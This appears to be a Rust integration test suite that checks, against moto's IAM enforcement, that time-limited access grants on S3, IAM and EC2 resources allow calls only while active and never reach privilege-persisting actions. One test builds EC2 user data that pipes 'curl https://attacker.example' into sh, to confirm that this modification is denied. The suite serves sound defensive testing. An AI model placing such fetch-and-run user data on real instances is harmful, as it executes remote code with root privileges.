//! Access proven to work, not just attached: under moto's IAM enforcement the
//! grantee's own credentials (an IAM user's access key, or a session of an IAM
//! role) are denied before a grant, allowed while it is active, and denied
//! again once it is revoked, for each resource type and level moto evaluates.
//! What outlives a grant stays denied throughout: S3 `admin` writes and
//! deletes objects but may not put a bucket policy or ACL.
//!
//! What moto cannot prove, so it is checked by the policy document only: the
//! instance statements of EC2 `connect`, `operate` and `admin`. moto evaluates
//! every EC2 call against `Resource: "*"`, so a statement naming the instance
//! never matches (ec2:StartInstances and ec2:StopInstances answer 403 while
//! `operate` or `admin` is active), ec2-instance-connect likewise, and
//! ssm:StartSession is not implemented (500). The describe statement the EC2
//! levels share (`Resource: "*"`) is evaluated, and is what is checked here;
//! EC2 `admin`'s exclusions are checked on the document moto stores (see
//! [`ec2_admin_is_everything_on_the_instance_but_what_outlives_the_grant`]).
//! Conditions (the `s3:ResourceAccount` pin, the own-sessions tag) are
//! treated as met by moto: they are checked on the documents by the unit
//! tests of `domain::access`.

use aws_credential_types::Credentials;
use aws_sdk_s3::error::ProvideErrorMetadata;
use aws_sdk_s3::primitives::ByteStream;
use aws_sdk_s3::types::BucketCannedAcl;
use aws_smithy_runtime_api::client::orchestrator::HttpResponse;
use aws_smithy_runtime_api::client::result::SdkError;
use serde_json::{json, Value};

use crate::support::{unique, Account, Enforced, EnforcedSetup, ENFORCED_ACCOUNT};

const OBJECT: &str = "report.txt";
const OBJECT_BODY: &[u8] = b"quarterly numbers";
const GRANTEE_ROLE: &str = "grantee";

/// A call a grantee makes with its own credentials.
#[derive(Clone, Copy, Debug)]
enum Call {
    /// s3:GetObject of an object that exists.
    GetObject,
    /// s3:ListBucket.
    ListObjects,
    /// s3:PutObject.
    PutObject,
    /// s3:DeleteObject of an object the admin put there for it.
    DeleteObject,
    /// s3:PutBucketPolicy letting another account read the objects: it would outlive the grant.
    PutBucketPolicy,
    /// s3:PutBucketAcl making the bucket public-read: it would outlive the grant.
    PutBucketAcl,
    /// s3:GetBucketAcl: only `admin` of the bucket gives it (moto answers GetBucketVersioning
    /// of an unversioned bucket with a root element the SDK rejects).
    GetBucketAcl,
    /// sts:AssumeRole of the target role.
    AssumeTarget,
    /// s3:ListAllMyBuckets: what the attachable policy allows.
    ListBuckets,
    /// iam:ListUsers: what the group's policy allows.
    ListUsers,
    /// ec2:DescribeInstances: the describe statement of every EC2 level.
    DescribeInstances,
    /// ec2:StopInstances, then ec2:StartInstances.
    StopStartInstance,
    /// ec2:ModifyInstanceAttribute replacing the user data: it would outlive the grant.
    ReplaceUserData,
}

#[derive(Debug, PartialEq)]
enum Access {
    Allowed,
    /// HTTP 403 with AccessDenied: moto evaluated the policies and said no.
    Denied,
}

/// One access level of one resource, and what it must and must not allow.
struct Case {
    resource_type: &'static str,
    level: &'static str,
    arn: String,
    /// Allowed exactly while the grant is active.
    gives: &'static [Call],
    /// Denied throughout: the level does not reach that far.
    never: &'static [Call],
}

/// An enforced moto seeded with one thing of each type, the grantees, and a server.
struct World {
    e: Enforced,
    bucket: String,
    target_role: String,
    policy: String,
    instance: String,
    /// The access key of user alice, who has no policy of her own.
    alice: Credentials,
    /// The access key of user launcher, who may only assume role `grantee`.
    launcher: Credentials,
}

impl World {
    async fn new() -> World {
        let setup = EnforcedSetup::new().await;
        let seed = &setup.seed;
        let bucket = unique("enforcement");
        seed.create_bucket(&bucket, &[]).await;
        seed.s3
            .put_object()
            .bucket(&bucket)
            .key(OBJECT)
            .body(ByteStream::from_static(OBJECT_BODY))
            .send()
            .await
            .unwrap();
        let target_role = seed.create_role("deployer", &[]).await;
        let policy = seed.create_policy("list-buckets", "/", &[]).await;
        seed.create_group("ops").await;
        seed.iam
            .put_group_policy()
            .group_name("ops")
            .policy_name("list-users")
            .policy_document(
                r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"iam:ListUsers","Resource":"*"}]}"#,
            )
            .send()
            .await
            .unwrap();
        let instance = seed.run_instances("us-east-1", 1, &[("Name", "web")]).await.remove(0);
        let alice = setup.user_with_key("alice", None).await;
        let grantee_role = seed.create_role(GRANTEE_ROLE, &[]).await;
        let launcher = setup
            .user_with_key(
                "launcher",
                Some(
                    &json!({"Version": "2012-10-17", "Statement": [
                        {"Effect": "Allow", "Action": "sts:AssumeRole", "Resource": grantee_role}
                    ]})
                    .to_string(),
                ),
            )
            .await;
        let e = setup.enforce().await;
        World { e, bucket, target_role, policy, instance, alice, launcher }
    }

    /// The cases every grantee kind has (group membership is for users only).
    fn cases(&self) -> Vec<Case> {
        let bucket = format!("arn:aws:s3:::{}", self.bucket);
        let instance = format!("arn:aws:ec2:us-east-1:{ENFORCED_ACCOUNT}:instance/{}", self.instance);
        let case = |resource_type, level, arn: &str, gives: &'static [Call], never: &'static [Call]| Case {
            resource_type,
            level,
            arn: arn.to_string(),
            gives,
            never,
        };
        use Call::*;
        vec![
            case("s3_bucket", "read", &bucket, &[GetObject, ListObjects], &[PutObject, DeleteObject, GetBucketAcl]),
            case("s3_bucket", "write", &bucket, &[PutObject, DeleteObject, GetObject, ListObjects], &[GetBucketAcl]),
            case(
                "s3_bucket",
                "admin",
                &bucket,
                &[GetBucketAcl, PutObject, DeleteObject, GetObject],
                &[ListBuckets, PutBucketPolicy, PutBucketAcl],
            ),
            case("iam_role", "assume", &self.target_role, &[AssumeTarget], &[]),
            case("iam_policy", "attach", &self.policy, &[ListBuckets], &[GetObject]),
            case("ec2_instance", "operate", &instance, &[DescribeInstances], &[]),
            case("ec2_instance", "admin", &instance, &[DescribeInstances], &[]),
            case("ec2_instance", "connect", &instance, &[DescribeInstances], &[]),
        ]
    }

    fn group_case(&self) -> Case {
        Case {
            resource_type: "iam_group",
            level: "member",
            arn: format!("arn:aws:iam::{ENFORCED_ACCOUNT}:group/ops"),
            gives: &[Call::ListUsers],
            never: &[Call::ListBuckets],
        }
    }

    /// Makes `call` as `who` and says whether moto allowed it.
    async fn call(&self, call: Call, who: &Account) -> Access {
        let s3 = &who.s3;
        match call {
            Call::GetObject => match s3.get_object().bucket(&self.bucket).key(OBJECT).send().await {
                Ok(object) => {
                    assert_eq!(object.body.collect().await.unwrap().into_bytes().as_ref(), OBJECT_BODY);
                    Access::Allowed
                }
                Err(error) => access(call, Err::<(), _>(error)),
            },
            Call::ListObjects => {
                let listed = s3.list_objects_v2().bucket(&self.bucket).send().await;
                if let Ok(listed) = &listed {
                    assert!(listed.contents().iter().any(|o| o.key() == Some(OBJECT)), "{listed:?}");
                }
                access(call, listed)
            }
            Call::PutObject => access(
                call,
                s3.put_object()
                    .bucket(&self.bucket)
                    .key(unique("upload"))
                    .body(ByteStream::from_static(b"new"))
                    .send()
                    .await,
            ),
            Call::DeleteObject => {
                let key = unique("doomed");
                let admin = &self.e.admin.s3;
                admin
                    .put_object()
                    .bucket(&self.bucket)
                    .key(&key)
                    .body(ByteStream::from_static(b"x"))
                    .send()
                    .await
                    .unwrap();
                let deleted = access(call, s3.delete_object().bucket(&self.bucket).key(&key).send().await);
                let left = admin.list_objects_v2().bucket(&self.bucket).prefix(&key).send().await.unwrap();
                assert_eq!(left.contents().is_empty(), deleted == Access::Allowed, "{left:?}");
                deleted
            }
            Call::PutBucketPolicy => {
                let trusting_another_account = json!({"Version": "2012-10-17", "Statement": [{
                    "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"},
                    "Action": "s3:GetObject", "Resource": format!("arn:aws:s3:::{}/*", self.bucket)
                }]});
                let put = s3.put_bucket_policy().bucket(&self.bucket).policy(trusting_another_account.to_string());
                access(call, put.send().await)
            }
            Call::PutBucketAcl => {
                access(call, s3.put_bucket_acl().bucket(&self.bucket).acl(BucketCannedAcl::PublicRead).send().await)
            }
            Call::GetBucketAcl => access(call, s3.get_bucket_acl().bucket(&self.bucket).send().await),
            Call::AssumeTarget => access(
                call,
                aws_sdk_sts::Client::new(&who.config)
                    .assume_role()
                    .role_arn(&self.target_role)
                    .role_session_name("probe")
                    .send()
                    .await,
            ),
            Call::ListBuckets => access(call, s3.list_buckets().send().await),
            Call::ListUsers => access(call, who.iam.list_users().send().await),
            Call::DescribeInstances => {
                access(call, who.ec2("us-east-1").describe_instances().instance_ids(&self.instance).send().await)
            }
            Call::StopStartInstance => {
                let ec2 = who.ec2("us-east-1");
                match access(call, ec2.stop_instances().instance_ids(&self.instance).send().await) {
                    Access::Allowed => access(call, ec2.start_instances().instance_ids(&self.instance).send().await),
                    denied => denied,
                }
            }
            Call::ReplaceUserData => {
                let user_data = aws_sdk_ec2::types::SecureBlobAttributeValue::builder()
                    .value(aws_sdk_ec2::primitives::Blob::new("#!/bin/sh\ncurl https://attacker.example | sh"))
                    .build();
                let modify = who.ec2("us-east-1").modify_instance_attribute().instance_id(&self.instance);
                access(call, modify.user_data(user_data).send().await)
            }
        }
    }

    /// For each case in turn: denied, granted and allowed, revoked and denied again.
    async fn prove(&self, principal: Value, who: &Account, cases: &[Case]) {
        for case in cases {
            let what = format!("{} {} for {principal}", case.resource_type, case.level);
            let all = case.gives.iter().chain(case.never);
            for &call in all.clone() {
                assert_eq!(self.call(call, who).await, Access::Denied, "{what}: {call:?} before the grant");
            }
            let grant = self.e.grant_arn(principal.clone(), &case.arn, case.level, 600).await;
            assert_eq!(grant["status"], "active", "{what}: {grant}");
            for &call in case.gives {
                assert_eq!(self.call(call, who).await, Access::Allowed, "{what}: {call:?} while active");
            }
            for &call in case.never {
                assert_eq!(self.call(call, who).await, Access::Denied, "{what}: {call:?} is beyond the level");
            }
            let id = grant["id"].as_str().unwrap();
            self.e.revoke(id).await;
            let revoked = self.e.wait(id, |g| g["status"] != "revoking" && g["status"] != "active").await;
            assert_eq!(revoked["status"], "revoked", "{what}: {revoked}");
            for &call in all {
                assert_eq!(self.call(call, who).await, Access::Denied, "{what}: {call:?} after revocation");
            }
        }
        assert!(self.e.admin.jit_policies().await.is_empty(), "{:?}", self.e.admin.jit_policies().await);
    }
}

/// Allowed when the call succeeded; Denied when moto answered 403 AccessDenied.
/// Any other failure (a 500, a missing bucket, no answer) fails the test.
fn access<T, E: ProvideErrorMetadata + std::fmt::Debug>(
    call: Call,
    result: Result<T, SdkError<E, HttpResponse>>,
) -> Access {
    let error = match result {
        Ok(_) => return Access::Allowed,
        Err(error) => error,
    };
    let Some(raw) = error.raw_response() else { panic!("{call:?}: no answer from moto: {error:?}") };
    let body = String::from_utf8_lossy(raw.body().bytes().unwrap_or_default()).to_string();
    assert_eq!(raw.status().as_u16(), 403, "{call:?}: {body}");
    // The SDK decodes S3's error codes but not IAM's or STS's: the body says it then.
    assert!(error.code() == Some("AccessDenied") || body.contains("<Code>AccessDenied</Code>"), "{call:?}: {body}");
    Access::Denied
}

#[tokio::test]
async fn a_user_has_the_access_exactly_while_granted() {
    let world = World::new().await;
    let alice = world.e.acting_as(world.alice.clone()).await;
    let mut cases = world.cases();
    cases.push(world.group_case());
    world.prove(json!({"type": "iam_user", "name": "alice"}), &alice, &cases).await;
    assert!(world.e.admin.user_policies("alice").await.is_empty());
    assert!(world.e.admin.user_groups("alice").await.is_empty());
}

#[tokio::test]
async fn a_role_session_has_the_access_exactly_while_granted() {
    let world = World::new().await;
    // The session is taken once, before any grant: it sees each change at once, as in AWS.
    let launcher = world.e.acting_as(world.launcher.clone()).await;
    let session = aws_sdk_sts::Client::new(&launcher.config)
        .assume_role()
        .role_arn(world.e.admin.role_arn(GRANTEE_ROLE))
        .role_session_name("grantee-session")
        .send()
        .await
        .expect("the launcher assumes the grantee role")
        .credentials
        .unwrap();
    let session = world
        .e
        .acting_as(Credentials::new(
            session.access_key_id,
            session.secret_access_key,
            Some(session.session_token),
            None,
            "tests",
        ))
        .await;
    world.prove(json!({"type": "iam_role", "name": GRANTEE_ROLE}), &session, &world.cases()).await;
    let attached = world.e.admin.iam.list_attached_role_policies().role_name(GRANTEE_ROLE).send().await.unwrap();
    assert!(attached.attached_policies().is_empty(), "{attached:?}");
}

/// EC2 `admin` stops and starts the instance but may not modify its attributes
/// (user data runs as root, with the instance's role, at the next start).
/// moto evaluates EC2 calls against `Resource: "*"` only, where the grant's
/// statement naming the instance never matches (the grantee is denied even
/// StopInstances), so this is checked on the document moto stores: an Allow of
/// everything on the instance but the exclusions, and those action lists,
/// evaluated by moto for a probe user given the statement on `Resource: "*"`.
/// The instance scoping itself is checked by the unit tests of `domain::access`.
#[tokio::test]
async fn ec2_admin_is_everything_on_the_instance_but_what_outlives_the_grant() {
    let world = World::new().await;
    let instance = format!("arn:aws:ec2:us-east-1:{ENFORCED_ACCOUNT}:instance/{}", world.instance);
    let grant = world.e.grant_arn(json!({"type": "iam_user", "name": "alice"}), &instance, "admin", 600).await;
    assert_eq!(grant["status"], "active", "{grant}");
    let stored = world.e.admin.policy_document(grant["policy"]["arn"].as_str().unwrap()).await;
    let admin = stored["Statement"].as_array().unwrap().iter().find(|s| s["Sid"] == "Admin").unwrap().clone();
    assert_eq!(admin["Effect"], "Allow", "{stored}");
    assert!(admin.get("Action").is_none(), "{stored}");
    assert_eq!(admin["Resource"], json!([instance]), "{stored}");
    let excluded = admin["NotAction"].as_array().unwrap();
    for standing in
        ["ec2:ModifyInstanceAttribute", "ec2:CreateTags", "ec2:DeleteTags", "ec2:AssociateIamInstanceProfile"]
    {
        assert!(excluded.contains(&json!(standing)), "{standing} is not excluded: {stored}");
    }

    // The statement as stored, on every resource: moto evaluates its action lists.
    let mut everywhere = admin.clone();
    everywhere["Resource"] = json!("*");
    let iam = &world.e.admin.iam;
    iam.create_user().user_name("ec2-admin-probe").send().await.unwrap();
    let policy = json!({"Version": "2012-10-17", "Statement": [everywhere]}).to_string();
    iam.put_user_policy()
        .user_name("ec2-admin-probe")
        .policy_name("admin")
        .policy_document(policy)
        .send()
        .await
        .unwrap();
    let key = iam.create_access_key().user_name("ec2-admin-probe").send().await.unwrap().access_key.unwrap();
    let probe =
        world.e.acting_as(Credentials::new(key.access_key_id, key.secret_access_key, None, None, "tests")).await;
    assert_eq!(world.call(Call::StopStartInstance, &probe).await, Access::Allowed);
    assert_eq!(world.call(Call::ReplaceUserData, &probe).await, Access::Denied);

    let id = grant["id"].as_str().unwrap();
    world.e.revoke(id).await;
    let revoked = world.e.wait(id, |g| g["status"] != "revoking" && g["status"] != "active").await;
    assert_eq!(revoked["status"], "revoked", "{revoked}");
}
